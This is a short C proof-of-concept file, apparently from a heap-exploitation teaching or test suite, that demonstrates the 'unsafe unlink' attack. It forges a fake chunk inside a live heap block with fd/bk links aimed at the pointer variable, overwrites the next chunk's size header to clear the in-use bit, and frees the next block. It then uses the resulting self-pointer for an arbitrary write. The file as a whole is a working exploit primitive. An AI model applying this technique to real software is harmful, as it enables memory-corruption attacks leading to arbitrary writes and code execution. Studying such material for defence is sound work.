/*
 * metadata: a fake chunk inside a live block, whose links point to the variable that points to the
 * block, passes the check that unlink has had since 2004. The variable then points to itself, and
 * the program's next write through it goes where the attacker likes.
 */
#include "attack.h"

static Word *volatile block;
static Word secret[4];

int main(void) {
  settle(1048);
  block = allocate(1048);
  Word *next = allocate(1048);
  allocate(1048);
  block[0] = 0;
  block[1] = 1040;                               /* the fake chunk reaches up to the next block's chunk */
  block[2] = (uint64_t)(uintptr_t)&block - 24;   /* fd->bk is the variable, which holds the fake chunk's address */
  block[3] = (uint64_t)(uintptr_t)&block - 16;   /* and so is bk->fd */
  block[130] = 1040;                             /* the overflow: "the size before" is that of the fake chunk, */
  block[131] = 1056;                             /* and "previous in use" is cleared */
  release((void *)next);
  if (block != (Word *)((uintptr_t)&block - 24)) return 0;
  block[3] = (uint64_t)(uintptr_t)secret;        /* now the program writes over its own pointer, */
  block[0] = 42;                                 /* and then wherever that points */
  return secret[0] == 42 ? GOAL_REACHED : 0;
}
